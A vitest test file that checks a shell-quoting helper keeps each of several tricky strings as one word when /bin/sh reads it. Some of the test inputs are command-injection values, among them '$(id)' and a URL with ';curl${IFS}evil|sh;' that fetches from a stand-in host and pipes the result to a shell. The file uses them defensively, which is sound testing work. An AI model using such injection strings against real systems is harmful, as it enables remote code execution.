import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { quoted } from './shell-word.js';

test.each([
  'plain-word',
  'https://as.example/tenant',
  '',
  'two words',
  "x';id;'",
  '$(id)`id`$HOME',
  `https://as.example/;curl\${IFS}evil|sh;`,
  '~/a*?[b]{c,d}',
  'a\\b"c\nd',
  '#=&><!^',
])('a shell reads %j as one word', (text) => {
  const words = execFileSync('/bin/sh', ['-c', `printf '%s\\0' ${quoted(text)}`], { encoding: 'utf8' });
  expect(words).toBe(`${text}\0`);
});

test('a word that needs no quotes has none', () => {
  for (const text of ['github/get_issue', 'https://as.example:8443/x', 'a@b+c%d']) expect(quoted(text)).toBe(text);
});
